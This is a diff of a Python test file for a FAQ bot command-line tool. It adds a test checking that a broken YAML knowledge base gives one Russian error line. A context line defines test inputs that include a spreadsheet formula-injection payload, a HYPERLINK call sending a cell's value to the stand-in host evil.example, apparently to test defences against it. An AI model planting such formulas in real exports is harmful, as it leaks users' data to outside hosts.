@@ -151,6 +151,23 @@ def test_a_day_typed_the_russian_way_is_taken(
     assert "Вопросов за период: 2." in capsys.readouterr().out
 
 
+def test_a_broken_base_is_one_line_in_russian_not_a_traceback(
+    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    kb = tmp_path / "kb"
+    kb.mkdir()
+    (kb / "a.yaml").write_text("topic: А\nentries:\n\t- id: a\n", encoding="utf-8")
+    (kb / "b.yaml").write_text("topic: Б\nentries: []\n", encoding="utf-8")
+    out = tmp_path / "report.html"
+
+    assert main(["report", "--database", url, "--kb", str(kb), "--out", str(out)]) == 1
+
+    [line] = capsys.readouterr().err.splitlines()
+    assert line.startswith("faqbot: база знаний не загружается: ошибок в базе знаний: 2. | ")
+    assert "a.yaml:3: ошибка YAML: табуляция" in line
+    assert not out.exists()
+
+
 FORMULA_QUESTIONS = ('=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "@SUM(1,1) ошибка")
 
 
